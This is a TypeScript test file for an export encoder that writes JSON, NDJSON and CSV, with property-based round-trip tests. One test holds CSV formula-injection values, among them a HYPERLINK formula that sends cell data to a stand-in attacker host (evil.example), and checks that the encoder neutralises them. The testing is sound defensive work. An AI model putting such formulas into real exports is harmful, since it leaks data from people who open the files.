// Encoding raw server objects batch by batch: JSON, NDJSON and CSV read back as what was written. The CSV property test
// reads the output with csv-parse (a widely used RFC 4180 parser, a development dependency for this test only).
import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { chooseColumns } from '../../../src/export/columns';
import { csvCell, csvRecord } from '../../../src/export/csv';
import { createEncoder, type Encoder } from '../../../src/export/encoder';
import type { ExportFormat } from '../../../src/export/exportFormat';

function encodeAll(encoder: Encoder, batches: readonly (readonly unknown[])[]): string {
  return encoder.begin() + batches.map((batch) => encoder.encode(batch)).join('') + encoder.end();
}

function readCsv(text: string): string[][] {
  return parse(text, { bom: false, relax_quotes: false, skip_empty_lines: false }) as string[][];
}

/** Text with what CSV has to quote, spaces, non-BMP characters and anything else. */
const cellText = fc.string({ unit: fc.oneof(fc.constantFrom(',', '"', '\r', '\n', '\r\n', ' ', 'é', '😀', ';', "'"), fc.string({ minLength: 1, maxLength: 1, unit: 'grapheme' })) });
/** A number JSON text carries as it is: JSON.stringify writes -0 as 0 (equal as numbers, not to deepEqual). */
const jsonNumber = fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => (Object.is(n, -0) ? 0 : n));
const jsonValue = fc.oneof(cellText, fc.integer(), jsonNumber, fc.boolean(), fc.constant(null), fc.array(cellText, { maxLength: 3 }), fc.dictionary(cellText, cellText, { maxKeys: 3, noNullPrototype: true }));
const record = fc.dictionary(fc.oneof(fc.constantFrom('id', 'url', 'events', 'a,b', 'q"k', 'line\nkey', '__proto__', 'constructor'), cellText), jsonValue, { maxKeys: 6, noNullPrototype: true });

describe('export encoder', () => {
  const items = [{ id: 'wh_1', url: 'https://a', events: ['form.submitted'], active: true, extra: { n: 1 } }, { id: 'wh_2', url: 'https://b', events: null }];

  it('JSON: one array, two-space indentation, the objects as they were (unknown fields kept), in batches', () => {
    const text = encodeAll(createEncoder('json'), [[items[0]], [], [items[1]]]);
    assert.deepEqual(JSON.parse(text), items);
    assert.ok(text.startsWith('[\n  {\n    "id": "wh_1"'), text);
    assert.ok(text.endsWith('\n]\n'));
    assert.equal(encodeAll(createEncoder('json'), []), '[]\n');
    assert.deepEqual(JSON.parse(encodeAll(createEncoder('json'), [[1, 'x', null, [2]]])), [1, 'x', null, [2]], 'not only objects');
  });

  it('NDJSON: one compact object per line, line breaks inside strings escaped', () => {
    const text = encodeAll(createEncoder('ndjson'), [items, [{ note: 'two\nlines\u2028' }]]);
    const lines = text.split('\n');
    assert.equal(lines.pop(), '', 'ends with a line break');
    assert.deepEqual(lines.map((line) => JSON.parse(line) as unknown), [...items, { note: 'two\nlines\u2028' }]);
    assert.equal(encodeAll(createEncoder('ndjson'), []), '');
  });

  it('CSV: a header of the columns, a record per object; objects and arrays as JSON text; other keys counted as left out', () => {
    const encoder = createEncoder('csv', ['id', 'url', 'events', 'active']);
    const text = encodeAll(encoder, [items]);
    assert.equal(text, 'id,url,events,active\r\nwh_1,https://a,"[""form.submitted""]",true\r\nwh_2,https://b,,\r\n');
    assert.deepEqual(encoder.leftOut, ['extra']);
    assert.equal(encoder.count, 2);
  });

  it('CSV: a formula from the server is shown as text by default (leading \'), exactly as sent with csvRawCells', () => {
    const hostile = [
      { id: '=HYPERLINK("https://evil.example/?"&C2,"open")', url: '+1+2', events: '-2-3', '@SUM(A1)': '@SUM(A1:A9)' },
      { id: '\t=1', url: '\r=2', events: 'safe = text', '@SUM(A1)': -5 },
    ];
    const columns = chooseColumns(['id', 'url', 'events'], hostile);
    const neutral = createEncoder('csv', columns);
    const rows = readCsv(encodeAll(neutral, [hostile]));
    assert.deepEqual(rows, [
      ['id', 'url', 'events', "'@SUM(A1)"],
      ['\'=HYPERLINK("https://evil.example/?"&C2,"open")', "'+1+2", "'-2-3", "'@SUM(A1:A9)"],
      ["'\t=1", "'\r=2", 'safe = text', '-5'],
    ]);
    assert.equal(neutral.neutralized, 7, 'the header key and six cells; the number -5 is no formula');
    const raw = createEncoder('csv', columns, { csvRawCells: true });
    assert.deepEqual(readCsv(encodeAll(raw, [hostile])), [
      ['id', 'url', 'events', '@SUM(A1)'],
      ['=HYPERLINK("https://evil.example/?"&C2,"open")', '+1+2', '-2-3', '@SUM(A1:A9)'],
      ['\t=1', '\r=2', 'safe = text', '-5'],
    ]);
    assert.equal(raw.neutralized, 0);
    for (const format of ['json', 'ndjson'] as const) {
      const text = encodeAll(createEncoder(format), [hostile]);
      const back = format === 'json' ? (JSON.parse(text) as unknown) : text.trim().split('\n').map((line) => JSON.parse(line) as unknown);
      assert.deepEqual(back, hostile, `${format} keeps the raw values`);
    }
  });

  it('counts what it encoded, in every format', () => {
    for (const format of ['json', 'ndjson', 'csv'] as ExportFormat[]) {
      const encoder = createEncoder(format, ['id']);
      encodeAll(encoder, [items, items]);
      assert.equal(encoder.count, 4, format);
    }
  });

  describe('property', () => {
    it('csv-parse reads back the header and every cell of any records, in any batches', () => {
      fc.assert(
        fc.property(fc.array(record, { maxLength: 12 }), fc.array(fc.nat(5), { maxLength: 5 }), (records, cuts) => {
          const columns = chooseColumns(['id', 'url', 'events'], records);
          const encoder = createEncoder('csv', columns);
          const batches: unknown[][] = [];
          let at = 0;
          for (const cut of cuts) {
            batches.push(records.slice(at, at + cut));
            at += cut;
          }
          batches.push(records.slice(at));
          const rows = readCsv(encodeAll(encoder, batches));
          assert.deepEqual(rows[0], columns.map((column) => csvCell(column)));
          assert.equal(rows.length, records.length + 1);
          records.forEach((rec, index) => {
            const expected = columns.map((column) => csvCell(Object.prototype.hasOwnProperty.call(rec, column) ? rec[column] : undefined));
            assert.deepEqual(rows[index + 1], expected);
          });
          assert.deepEqual(encoder.leftOut, [], 'columns chosen from every record leave nothing out');
        }),
        { numRuns: 300 },
      );
    });

    it('arrays and objects in cells read back as JSON equal to the value', () => {
      fc.assert(
        fc.property(fc.array(fc.oneof(fc.array(jsonValue, { maxLength: 3 }), fc.dictionary(cellText, jsonValue, { maxKeys: 3, noNullPrototype: true })), { minLength: 1, maxLength: 8 }), (values) => {
          const records = values.map((value) => ({ id: 'x', nested: value }));
          const rows = readCsv(encodeAll(createEncoder('csv', ['id', 'nested']), [records]));
          rows.slice(1).forEach((row, index) => assert.deepEqual(JSON.parse(row[1] as string), values[index]));
        }),
        { numRuns: 200 },
      );
    });

    it('any table of strings reads back the same (RFC 4180 quoting of every field)', () => {
      fc.assert(
        fc.property(fc.integer({ min: 1, max: 5 }).chain((width) => fc.array(fc.array(cellText, { minLength: width, maxLength: width }), { maxLength: 10 })), (table) => {
          const text = table.map(csvRecord).join('');
          assert.deepEqual(readCsv(text), table);
        }),
        { numRuns: 300 },
      );
    });

    it('JSON and NDJSON parse back to the objects, in any batches', () => {
      fc.assert(
        fc.property(fc.array(record, { maxLength: 10 }), fc.nat(10), (records, cut) => {
          const batches = [records.slice(0, cut), records.slice(cut)];
          assert.deepEqual(JSON.parse(encodeAll(createEncoder('json'), batches)), records);
          const lines = encodeAll(createEncoder('ndjson'), batches).split('\n').filter((line) => line !== '');
          assert.deepEqual(lines.map((line) => JSON.parse(line) as unknown), records);
        }),
        { numRuns: 200 },
      );
    });
  });
});
